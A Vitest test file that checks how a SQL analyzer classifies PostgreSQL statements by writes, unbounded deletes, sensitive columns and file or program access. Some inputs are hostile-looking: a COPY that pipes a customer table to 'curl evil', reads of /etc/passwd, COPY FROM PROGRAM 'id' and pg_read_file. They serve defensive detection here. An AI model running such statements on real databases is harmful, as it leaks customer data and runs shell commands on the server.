import { describe } from 'vitest'
import { checkAll } from './check-facts.js'

describe('INSERT and UPDATE', () => {
  checkAll([
    ['INSERT INTO t VALUES (1)', 'INSERT !w >t | STORES'],
    [
      'INSERT INTO t (a, b) SELECT ssn, name FROM customers RETURNING *',
      'INSERT !w >t customers | ssn name STORES',
    ],
    ['INSERT INTO t DEFAULT VALUES', 'INSERT !w >t | STORES'],
    [
      'INSERT INTO t (a) VALUES (1) ON CONFLICT (a) WHERE b > 1 DO UPDATE SET a = excluded.a, c = (SELECT ssn FROM customers) WHERE t.a < 5 RETURNING t.a, excluded',
      'INSERT !w >t customers | ?b excluded.a ssn ?t.a t.a excluded WHOLEROW STORES',
    ],
    ['INSERT INTO t AS x SELECT * FROM s ON CONFLICT DO NOTHING', 'INSERT !w >t s | INNERSTAR STORES'],
    ['UPDATE t SET a = 1', 'UPDATE !wU >t | STORES'],
    [
      'UPDATE ONLY public.t AS x SET a = b, c = DEFAULT WHERE x.id = 1',
      'UPDATE !w >public.t | b ?x.id STORES',
    ],
    [
      'UPDATE t SET (a, b) = (SELECT ssn, name FROM customers WHERE id = 1) WHERE id = 1',
      'UPDATE !w >t customers | ssn name ?id STORES',
    ],
    [
      'UPDATE t SET (a, b) = ROW (c, d) WHERE id = 1 RETURNING old.a, new',
      'UPDATE !w >t | c d ?id old.a new WHOLEROW STORES',
    ],
    ['UPDATE t SET a[f(i)] = 2, b.c = d WHERE id = 1', 'UPDATE !w >t f() | i d ?id STORES'],
    ['UPDATE t SET a = s.x FROM s WHERE s.id = 5', 'UPDATE !wU >t s | s.x ?s.id STORES'],
    ['UPDATE t SET a = s.x FROM s WHERE s.id = t.id', 'UPDATE !w >t s | s.x ?s.id ?t.id STORES'],
    ['UPDATE t SET a = 1 WHERE CURRENT OF cur', 'UPDATE !w >t | STORES'],
  ])
})

describe('a condition filters when it reads the rows that would change', () => {
  checkAll([
    ['DELETE FROM orders', 'DELETE !wU >orders'],
    ['DELETE FROM orders WHERE id = 1', 'DELETE !w >orders | ?id'],
    ['DELETE FROM orders WHERE true', 'DELETE !wU >orders'],
    ['DELETE FROM orders WHERE 1 = 1', 'DELETE !wU >orders'],
    ['DELETE FROM orders WHERE id = id', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE id >= orders.id', 'DELETE !wU >orders | ?id ?orders.id'],
    ['DELETE FROM orders WHERE id IS NOT NULL OR true', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE NOT false', 'DELETE !wU >orders'],
    ['DELETE FROM orders WHERE NOT (id = 1 AND false)', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE id = 1 OR 2 > 1', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE id = 1 OR $1', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE $1', 'DELETE !wU >orders'],
    ["DELETE FROM orders WHERE now() > '2020-01-01'", 'DELETE !wU >orders now()'],
    ['DELETE FROM orders WHERE random() < 2', 'DELETE !wU >orders random()'],
    ['DELETE FROM orders WHERE id IS NULL OR id IS NOT NULL', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE id = 5 OR id <> 5', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE id = 5 OR NOT id = 5', 'DELETE !wU >orders | ?id'],
    ["DELETE FROM orders WHERE name LIKE '%'", 'DELETE !wU >orders | ?name'],
    ["DELETE FROM orders WHERE name LIKE 'A%'", 'DELETE !w >orders | ?name'],
    ["DELETE FROM orders WHERE name NOT LIKE '%'", 'DELETE !w >orders | ?name'],
    ['DELETE FROM orders WHERE id IN (1, 2)', 'DELETE !w >orders | ?id'],
    ['DELETE FROM orders WHERE id IN (1, id)', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE id BETWEEN id AND id', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE id BETWEEN 1 AND 5', 'DELETE !w >orders | ?id'],
    ['DELETE FROM orders WHERE id IS NOT DISTINCT FROM id', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE (id = 1) IS NOT UNKNOWN', 'DELETE !w >orders | ?id'],
    ['DELETE FROM orders WHERE (1 = 1) IS TRUE', 'DELETE !wU >orders'],
    ['DELETE FROM orders WHERE true IS NOT FALSE', 'DELETE !wU >orders'],
    ['DELETE FROM orders WHERE CASE WHEN id = 1 THEN true ELSE true END', 'DELETE !wU >orders | ?id'],
    ['DELETE FROM orders WHERE CASE WHEN id = 1 THEN true END', 'DELETE !w >orders | ?id'],
    ['DELETE FROM orders WHERE EXISTS (SELECT 1)', 'DELETE !wU >orders'],
    [
      'DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 1)',
      'DELETE !wU >orders customers | ?c.id',
    ],
    [
      'DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = orders.customer_id)',
      'DELETE !w >orders customers | ?c.id ?orders.customer_id',
    ],
    ['DELETE FROM orders o WHERE o.id = ANY ($1)', 'DELETE !w >orders | ?o.id'],
    ['DELETE FROM orders WHERE id = ANY (SELECT id FROM old)', 'DELETE !w >orders old | ?id'],
    ['DELETE FROM orders WHERE (true)::bool', 'DELETE !wU >orders | ::bool'],
    ["DELETE FROM orders WHERE 'true'", 'DELETE !wU >orders'],
    ['DELETE FROM orders WHERE NULL', 'DELETE !wU >orders'],
    ['DELETE FROM orders WHERE id = 1 AND true', 'DELETE !w >orders | ?id'],
    ['DELETE FROM orders USING customers c WHERE c.id = c.id', 'DELETE !wU >orders customers | ?c.id'],
    [
      "DELETE FROM orders USING customers c WHERE c.id = 7 AND c.name = 'x'",
      'DELETE !wU >orders customers | ?c.id ?c.name',
    ],
    ['DELETE FROM public.orders WHERE public.orders.id = 1', 'DELETE !w >public.orders | ?orders.id'],
    ['DELETE FROM orders WHERE (orders).id = 1', 'DELETE !w >orders id() | ?orders ?id WHOLEROW'],
    ['DELETE FROM orders WHERE id + 0 = id + 0', 'DELETE !wU >orders | ?id'],
    ["DELETE FROM orders WHERE ctid = '(0,1)'", 'DELETE !w >orders | ?ctid'],
    ['DELETE FROM orders WHERE id = 1 RETURNING *, ssn', 'DELETE !w >orders | ?id ssn'],
  ])
})

describe('modifications inside other statements are commands of their own', () => {
  checkAll([
    ['WITH d AS (DELETE FROM orders) SELECT 1', 'SELECT + DELETE !wU >orders'],
    [
      'WITH d AS MATERIALIZED (DELETE FROM users RETURNING *) SELECT * FROM d',
      'SELECT + DELETE !wU >users | INNERSTAR',
    ],
    [
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT (id, a) VALUES (s.id, s.a)',
      'MERGE !w >t s + DELETE !w >t + UPDATE !wU >t + INSERT !w >t | ?t.id ?s.id ?s.gone s.a s.id STORES',
    ],
    [
      'MERGE INTO t USING (SELECT ssn FROM customers) s ON true WHEN NOT MATCHED BY SOURCE THEN DELETE RETURNING merge_action(), *',
      'MERGE !w >t customers + DELETE !wU >t | ssn STORES',
    ],
    [
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND true THEN DELETE WHEN NOT MATCHED THEN DO NOTHING',
      'MERGE !w >t s + DELETE !wU >t | ?t.id ?s.id STORES',
    ],
  ])
})

describe('EXPLAIN counts as what it runs', () => {
  checkAll([
    ['EXPLAIN DELETE FROM orders', 'EXPLAIN orders'],
    ['EXPLAIN ANALYZE DELETE FROM orders', 'EXPLAIN + DELETE !wU >orders'],
    ['EXPLAIN (ANALYZE off) DELETE FROM orders', 'EXPLAIN orders'],
    ['EXPLAIN (ANALYZE 0, VERBOSE) UPDATE t SET a = 1', 'EXPLAIN t | STORES'],
    ['EXPLAIN (ANALYZE, ANALYZE false) DELETE FROM orders', 'EXPLAIN orders'],
    ['EXPLAIN (ANALYZE false, ANALYZE) DELETE FROM orders', 'EXPLAIN + DELETE !wU >orders'],
    ['EXPLAIN (ANALYZE maybe) DELETE FROM orders', 'EXPLAIN + DELETE !wU >orders'],
    ['EXPLAIN VERBOSE SELECT * FROM customers', 'EXPLAIN customers'],
    ['EXPLAIN ANALYZE SELECT * FROM customers', 'EXPLAIN + SELECT customers'],
    [
      "EXPLAIN WITH d AS (DELETE FROM orders RETURNING *) SELECT pg_read_file('x') FROM d",
      'EXPLAIN orders pg_read_file() | INNERSTAR',
    ],
    ['EXPLAIN ANALYZE EXECUTE p(1)', 'EXPLAIN + EXECUTE | execute:p'],
    [
      'EXPLAIN ANALYZE CREATE TABLE z AS SELECT * FROM customers',
      'EXPLAIN + CREATE TABLE !wd >z customers | INNERSTAR STORES',
    ],
    ['EXPLAIN (ANALYZE) DECLARE c CURSOR FOR SELECT 1', 'EXPLAIN + DECLARE + SELECT | declare:c'],
  ])
})

describe('prepared statements and cursors name what they stand for', () => {
  checkAll([
    ['PREPARE p AS DELETE FROM orders', 'PREPARE + DELETE !wU >orders | prepare:p'],
    ['PREPARE p (int) AS SELECT * FROM t WHERE a = $1', 'PREPARE + SELECT t | ?a prepare:p'],
    ['EXECUTE p ((SELECT ssn FROM customers))', 'EXECUTE customers | ssn execute:p'],
    ['EXECUTE "P"', 'EXECUTE | execute:P'],
    ['DEALLOCATE p', 'DEALLOCATE | deallocate:p'],
    ['DEALLOCATE PREPARE ALL', 'DEALLOCATE | deallocate:ALL'],
    [
      'DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT * FROM customers',
      'DECLARE + SELECT customers | declare:c',
    ],
    ['FETCH FORWARD 10 FROM c', 'FETCH | fetch:c'],
    ['FETCH ALL IN "C"', 'FETCH | fetch:C'],
    ['MOVE NEXT FROM c', 'MOVE | fetch:c'],
    ['CLOSE c', 'CLOSE | close:c'],
    ['CLOSE ALL', 'CLOSE | close:ALL'],
  ])
})

describe('COPY says what moves where', () => {
  checkAll([
    ['COPY customers TO STDOUT', 'COPY customers | copy[out,client,customers,text]'],
    [
      "COPY public.customers (ssn, name) TO STDOUT (FORMAT csv, HEADER true, DELIMITER ';', NULL 'x', FORCE_QUOTE (ssn), ENCODING 'SJIS')",
      'COPY public.customers | ssn name copy[out,client,public.customers(ssn,name),csv,header=true,delimiter=;,null=x,force_quote=ssn,encoding=SJIS]',
    ],
    ['COPY customers FROM STDIN BINARY', 'COPY !w >customers | copy[in,client,customers,binary]'],
    ["COPY customers FROM '/etc/passwd'", 'COPY !ws >customers | copy[in,file,customers,text]'],
    ["COPY customers TO PROGRAM 'curl evil'", 'COPY !ws customers | copy[out,program,customers,text]'],
    [
      'COPY (SELECT * FROM customers) TO STDOUT',
      'COPY + SELECT customers | INNERSTAR copy[out,client,query,text]',
    ],
    [
      'COPY (DELETE FROM orders RETURNING *) TO STDOUT',
      'COPY + DELETE !wU >orders | INNERSTAR copy[out,client,query,text]',
    ],
    ["COPY (SELECT 1) TO '/tmp/x'", 'COPY !ws + SELECT | copy[out,file,query,text]'],
    ["COPY t FROM PROGRAM 'id' WHERE a > 1", 'COPY !ws >t | ?a copy[in,program,t,text]'],
    ["COPY t TO STDOUT WITH DELIMITER '|' CSV", 'COPY t | copy[out,client,t,csv,delimiter=|]'],
    ["COPY t TO STDOUT (FORMAT 'CSV')", 'COPY t | copy[out,client,t,text]'],
    ["COPY t TO STDOUT (__proto__ 'x')", 'COPY t | copy[out,client,t,text,__proto__=x]'],
  ])
})

describe('code is called or carried', () => {
  checkAll([
    ['CALL p(1, (SELECT ssn FROM customers))', 'CALL !wd customers p() | ssn'],
    ["CALL s.p(a => set_config('role', 'x', true))", 'CALL !wd s.p() set_config() role=x'],
    ['DO LANGUAGE plpgsql $$ BEGIN END $$', 'DO !wdo | STORES'],
  ])
})
